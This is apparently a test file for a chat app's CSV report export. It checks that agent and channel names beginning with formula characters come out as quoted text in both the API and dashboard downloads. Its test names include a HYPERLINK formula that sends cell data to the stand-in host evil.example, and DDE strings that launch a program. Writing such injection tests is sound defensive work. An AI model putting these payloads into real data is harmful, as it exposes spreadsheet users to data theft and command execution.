// An agent names themself "=HYPERLINK(...)" (or a channel gets such a name); the manager downloads
// the team report and opens it in Excel or Google Sheets. Every cell a person could have written
// that starts like a formula (=, +, -, @, tab, carriage return) arrives as text with a leading
// quote, in the REST API's CSV and in the dashboard's download alike; figures stay figures.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { startPano, ADMIN, eventually, type PanoProcess } from "./support/pano.ts";
import { signIn } from "./settings-session.ts";
import { csvText } from "../src/web/csv.ts";

const NAMES = [
  `=HYPERLINK("https://evil.example/?d="&A1,"Xem chi tiết")`,
  "+84 cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
];

let pano: PanoProcess;
beforeAll(async () => {
  pano = await startPano();
  const ch = await pano.json("/api/v1/channels", { method: "POST", json: { type: "api", name: "=1+1 Kênh web" } });
  for (const [i, name] of NAMES.entries()) {
    const agent = await pano.json("/api/v1/users", { method: "POST", json: { email: `nv${i}@pano.test`, name, role: "agent", password: "mat-khau-nhan-vien-1" } });
    const ids = await pano.json(`/api/v1/channels/${ch.id}/inbound`, { method: "POST", json: { external_contact_id: `kh-${i}`, external_message_id: `m-${i}`, text: "Cho mình hỏi" } });
    await pano.json(`/api/v1/conversations/${ids.conversation_id}`, { method: "PATCH", json: { assignee_id: String(agent.id) } });
  }
  await eventually(async () => (await pano.json("/api/v1/reports/summary")).by_agent.length >= NAMES.length, 5000, "every agent in the report");
});
afterAll(async () => void (await pano?.stop()));

/** RFC 4180, as a spreadsheet reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [], cell = "", quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(cell), (cell = "");
    else if (ch === "\n") row.push(cell), rows.push(row), (row = []), (cell = "");
    else cell += ch;
  }
  return rows;
}

function expectNoFormulas(csv: string) {
  const rows = parseCsv(csv);
  const names = rows.map((r) => r[2]);
  for (const name of NAMES) expect(names).toContain(`'${name}`);
  expect(names).toContain("'=1+1 Kênh web");
  for (const cell of rows.flat()) expect([cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([cell, false]);
  // The figures are untouched numbers.
  expect(rows[1].slice(0, 4)).toEqual(["all", "", "", String(NAMES.length)]);
}

test("the REST API's CSV carries hostile names as text, not formulas", async () => {
  expectNoFormulas(await (await pano.api("/api/v1/reports/summary.csv")).text());
});

test("the dashboard's CSV download does the same", async () => {
  const manager = await signIn(pano, ADMIN.email, ADMIN.password);
  const res = await manager.get("/reports/summary.csv?period=today");
  expect(res.status).toBe(200);
  expectNoFormulas(res.html);
});

test("a name that starts with a tab or a carriage return (names are trimmed on the way in, but not every source is) is text too", () => {
  const rows = parseCsv(csvText([["agent", "7", "\t=1+1"], ["agent", "8", "\r=cmd|' /C calc'!A0"], ["all", -3, 4.5]]));
  expect(rows).toEqual([["agent", "7", "'\t=1+1"], ["agent", "8", "'\r=cmd|' /C calc'!A0"], ["all", "-3", "4.5"]]);
});
